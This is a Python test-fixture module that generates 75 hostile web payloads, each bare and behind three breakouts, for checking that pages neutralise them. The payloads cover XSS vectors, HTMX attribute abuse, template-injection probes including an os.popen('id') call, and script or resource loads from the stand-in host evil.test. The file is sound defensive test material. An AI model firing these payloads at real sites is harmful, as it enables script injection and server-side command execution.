"""Hostile texts for pages (P-19): 75 payloads, each as it is and behind three breakouts.

Where a page gives one a chance to run, `hit(N)` is called, or something is asked of the host
`evil.test`; `N` is the payload's number. None of it may happen, and no word of it may become
an element, an attribute or a template's value.
"""

from collections.abc import Iterator

HOST = "evil.test"
SUM = "9801547"
"""What template syntax would make of 1337 * 7331."""

_BREAKOUTS = ("{}", '">{}', "'>{}", "</textarea></title></style></script>--> {}")

_MARKUP = (
    "<script>hit(%d)</script>",
    "<script src=//evil.test/%d.js></script>",
    "<ScRiPt >hit(%d)</sCrIpT >",
    "<scr<script>ipt>hit(%d)</scr</script>ipt>",
    "<img src=x onerror=hit(%d)>",
    "<img src=//evil.test/%d.png>",
    "<img srcset='//evil.test/%d.png 2x'>",
    "<img/src/onerror=hit(%d)>",
    "<svg onload=hit(%d)>",
    "<svg><script>hit(%d)</script></svg>",
    "<svg><animate onbegin=hit(%d) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(%d)>#x'></svg>",
    "<svg><a xlink:href='javascript:hit(%d)'><text y=20>press</text></a></svg>",
    "<iframe srcdoc='<script>parent.hit(%d)</script>'></iframe>",
    "<iframe src='javascript:parent.hit(%d)'></iframe>",
    "<iframe src=//evil.test/%d></iframe>",
    "<object data='javascript:hit(%d)'></object>",
    "<embed src='javascript:hit(%d)'>",
    "<details open ontoggle=hit(%d)><summary>x</summary></details>",
    "<input autofocus onfocus=hit(%d)>",
    "<select autofocus onfocus=hit(%d)></select>",
    "<video><source onerror=hit(%d)></video>",
    "<audio src=x onerror=hit(%d)></audio>",
    "<body onload=hit(%d)>",
    "<marquee onstart=hit(%d)>x</marquee>",
    "<div onmouseover=hit(%d) style=position:fixed;inset:0>x</div>",
    "<a href='javascript:hit(%d)'>press</a>",
    "<a href='jAvA\tsCrIpT:hit(%d)'>press</a>",
    "<a href='&#106;avascript&colon;hit(%d)'>press</a>",
    "<a href='data:text/html,<script>opener.hit(%d)</script>' target=_blank>press</a>",
    "<form action='javascript:hit(%d)'><button>press</button></form>",
    "<button formaction='javascript:hit(%d)'>press</button>",
    "<meta http-equiv=refresh content='0;url=//evil.test/%d'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(%d)'>",
    "<base href='//evil.test/%d/'>",
    "<link rel=stylesheet href=//evil.test/%d.css>",
    "<link rel=prefetch href=//evil.test/%d>",
    "<style>*{background:url(//evil.test/%d)}</style>",
    "<style>@import '//evil.test/%d.css';</style>",
    "<p style='background:url(//evil.test/%d)'>x</p>",
    "<p style='animation:x 1s' onanimationstart=hit(%d)>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(%d)>",
    "<noscript><p title='</noscript><img src=x onerror=hit(%d)>'>",
    "<template><script>hit(%d)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=hit(%d)>'>",
    "<!--><img src=x onerror=hit(%d)>-->",
    "<![CDATA[><img src=x onerror=hit(%d)>]]>",
    "<custom-tag onpointerenter=hit(%d) tabindex=0>x</custom-tag>",
    "<p contenteditable onbeforeinput=hit(%d) onfocus=hit(%d) autofocus>x</p>",
    "<p popover ontoggle=hit(%d) id=p>x</p><button popovertarget=p>x</button>",
)
_HTMX = (
    "<p hx-get='//evil.test/%d' hx-trigger=load>x</p>",
    "<p hx-get='/static/%d' hx-trigger='load' hx-swap=outerHTML>x</p>",
    "<p hx-on:htmx:load='hit(%d)'>x</p>",
    "<p hx-on::load='hit(%d)' hx-on:click='hit(%d)'>x</p>",
    "<p data-hx-post='/reject' data-hx-trigger='revealed' data-hx-vals='js:{x:hit(%d)}'>x</p>",
    "<p hx-vals='js:{x:hit(%d)}' hx-get=/ hx-trigger=load>x</p>",
    "<p hx-trigger='load[hit(%d)]' hx-get=/>x</p>",
    "<p id=main hx-swap-oob=true><img src=x onerror=hit(%d)></p>",
)
_ATTRIBUTES = (
    '" onmouseover="hit(%d)" x="',
    "' onfocus='hit(%d)' autofocus='",
    '" style="background:url(//evil.test/%d)" x="',
    '" hx-on:click="hit(%d)" x="',
    "x onerror=hit(%d) y=",
)
_CODE = (
    "javascript:hit(%d)",
    "java\nscript:hit(%d)",
    "data:text/html,<script>hit(%d)</script>",
    "{{ 1337 * 7331 }} {%% print(1337*7331) %%} %d",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} %d",
    "${1337*7331} #{1337*7331} <%%= 1337*7331 %%> %d",
    "';hit(%d);//",
    "\\u003cscript\\u003ehit(%d)\\u003c/script\\u003e",
    "</script><script>hit(%d)</script>",
)
_UNICODE = (
    "\uff1cscript\uff1ehit(%d)\uff1c/script\uff1e",
    "\u202e<script>hit(%d)</script>\u202c\u2066\u2069",
    "<\u200bscript>hit(%d)</\u200bscript>\u2028\u2029 \u00ad\ufeff",
)
_ALL = (*_MARKUP, *_HTMX, *_ATTRIBUTES, *_CODE, *_UNICODE)


def payloads() -> Iterator[str]:
    """All of them, each with its number in it."""
    number = 0
    for breakout in _BREAKOUTS:
        for one in _ALL:
            yield breakout.format(one.replace("%d", str(number)).replace("%%", "%"))
            number += 1
